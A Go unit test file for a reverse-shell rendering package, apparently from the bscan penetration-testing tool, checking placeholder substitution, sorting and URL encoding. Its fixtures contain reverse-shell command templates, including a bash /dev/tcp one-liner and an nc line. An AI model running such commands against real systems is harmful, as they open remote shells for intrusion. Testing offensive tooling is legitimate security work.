package shells

import (
	"strings"
	"testing"

	"github.com/welchbj/bscan/internal/config"
)

func TestRenderSubstitutesAndSorts(t *testing.T) {
	in := []config.ReverseShell{
		{Name: "zzz", Cmd: "connect <target>:<port>"},
		{Name: "aaa", Cmd: "nc <target> <port>"},
	}

	out := Render(in, "10.0.0.1", 4444)
	if len(out) != 2 {
		t.Fatalf("got %d commands, want 2", len(out))
	}
	if out[0].Name != "aaa" || out[1].Name != "zzz" {
		t.Errorf("expected sorted-by-name output, got %+v", out)
	}
	if strings.Contains(out[0].Cmd, "<target>") || strings.Contains(out[0].Cmd, "<port>") {
		t.Errorf("expected placeholders substituted, got %q", out[0].Cmd)
	}
	if !strings.Contains(out[0].Cmd, "10.0.0.1") || !strings.Contains(out[0].Cmd, "4444") {
		t.Errorf("expected target/port present in %q", out[0].Cmd)
	}
}

func TestRenderURLEncodesSpaces(t *testing.T) {
	in := []config.ReverseShell{{Name: "bash", Cmd: "bash -i >& /dev/tcp/<target>/<port> 0>&1"}}
	out := Render(in, "10.0.0.1", 80)
	if !strings.Contains(out[0].URLEncodedCmd, "+") {
		t.Errorf("expected spaces url-encoded as '+', got %q", out[0].URLEncodedCmd)
	}
}
